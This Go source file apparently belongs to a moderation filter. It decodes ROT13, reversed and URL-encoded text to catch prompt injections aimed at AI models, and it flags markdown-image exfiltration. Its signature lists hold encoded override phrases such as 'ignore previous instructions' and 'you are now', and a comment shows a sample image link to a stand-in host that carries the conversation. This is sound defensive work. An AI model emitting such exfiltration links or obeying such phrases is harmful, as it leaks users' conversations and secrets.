package moderate

import (
	"regexp"
	"strings"
	"unicode/utf8"
)

// The decoding passes: text an attacker encoded so that the rules do not
// see it. Each is one linear pass and runs only when the text shows a sign
// of its encoding.

// rot13 rotates ASCII letters by 13 places.
func rot13(s string) string {
	b := []byte(s)
	for i, c := range b {
		switch {
		case c >= 'a' && c <= 'z':
			b[i] = 'a' + (c-'a'+13)%26
		case c >= 'A' && c <= 'Z':
			b[i] = 'A' + (c-'A'+13)%26
		}
	}
	return string(b)
}

// rot13Signs are common English words after ROT13 ("the", "you", "all",
// "and", "your", "instructions", "ignore", "previous", "prompt"): ordinary
// English text holds none of them as words.
var rot13Signs = []string{" gur ", "lbh ", " nyy ", " naq ", "lbhe ", "vafgehpgvbaf", "vtaber", "cerivbhf", "cebzcg", "flfgrz", "ehyrf"}

func looksROT13(norm string) bool {
	for _, w := range rot13Signs {
		if strings.Contains(norm, w) {
			return true
		}
	}
	return false
}

// reversedSigns are words of attacks written backwards.
var reversedSigns = []string{"snoitcurtsni", "tpmorp", "erongi", "tegrof", "drageersid", "edirrevo", "snoitcirtser", "selur ruoy", "won era uoy", "metsys"}

func looksReversed(norm string) bool {
	for _, w := range reversedSigns {
		if strings.Contains(norm, w) {
			return true
		}
	}
	return false
}

// reverse returns s with its characters (runes) in reverse order.
func reverse(s string) string {
	b := make([]byte, 0, len(s))
	for i := len(s); i > 0; {
		r, n := utf8.DecodeLastRuneInString(s[:i])
		if r == utf8.RuneError && n <= 1 {
			b = append(b, s[i-1])
			i--
			continue
		}
		b = utf8.AppendRune(b, r)
		i -= n
	}
	return string(b)
}

// percentDecode undoes URL encoding leniently: every valid %XX becomes its
// byte, "+" a space (form encoding), anything else stays as written (a
// stray "%" is kept, unlike net/url, which rejects the whole string). ok
// reports that at least three escapes were decoded: fewer is a percentage
// or two, not an encoded text.
func percentDecode(s string) (string, bool) {
	n := strings.Count(s, "%")
	if n < 3 {
		return "", false
	}
	b := make([]byte, 0, len(s))
	escapes := 0
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '%' && i+2 < len(s) && hexChar(s[i+1]) && hexChar(s[i+2]):
			b = append(b, unhex(s[i+1])<<4|unhex(s[i+2]))
			escapes++
			i += 2
		case c == '+':
			b = append(b, ' ')
		default:
			b = append(b, c)
		}
	}
	return string(b), escapes >= 3
}

func unhex(c byte) byte {
	switch {
	case isDigit(c):
		return c - '0'
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10
	default:
		return c - 'A' + 10
	}
}

// Markdown-image exfiltration: an image whose URL's query is a slot for
// the conversation, a secret or the prompt, for the client to fetch when
// it renders the answer ("![x](https://evil/?q={conversation})"). A slot
// is a placeholder ({…}, <…>, […], $VAR, AN_UPPER_NAME) or an empty
// value the text asks to fill. Badges and charts with fixed queries
// (?style=flat, ?width=800) are left alone.
var (
	reMDImage   = regexp.MustCompile(`!\[[^\]\n]{0,200}\]\(\s*(https?://[^)\s]{1,500}(?:\s[^)\n]{0,200})?)\)`)
	reSlot      = regexp.MustCompile(`[?&][^=&#]{1,40}=(?:[^&#]*[{<\[$]|[^&#]*\b[A-Z]+_[A-Z_]+\b|$)`)
	fillWords   = []string{"append", "followed by", "replac", "insert", "fill", "add the", "concatenat", "encoded", "summar", "conversation", "history", "password", "system prompt", "your instructions", "email"}
	exfilSlotOK = regexp.MustCompile(`^[?&][^=&#]{1,40}=$`)
)

func exfiltration(text string) []Finding {
	if !strings.Contains(text, "![") {
		return nil
	}
	var fs []Finding
	lower := ""
	for _, m := range reMDImage.FindAllStringSubmatchIndex(text, 16) {
		url := text[m[2]:m[3]]
		q := strings.IndexByte(url, '?')
		if q < 0 {
			continue
		}
		for _, s := range reSlot.FindAllString(url[q:], -1) {
			if exfilSlotOK.MatchString(s) { // an empty value: only when the text says to fill it
				if lower == "" {
					lower = strings.ToLower(text)
				}
				found := false
				for _, w := range fillWords {
					if strings.Contains(lower, w) {
						found = true
						break
					}
				}
				if !found {
					continue
				}
			}
			fs = append(fs, Finding{Category: CatInjection, Start: m[0], End: m[1], Pattern: "markdown-image-exfiltration"})
			break
		}
	}
	return fs
}
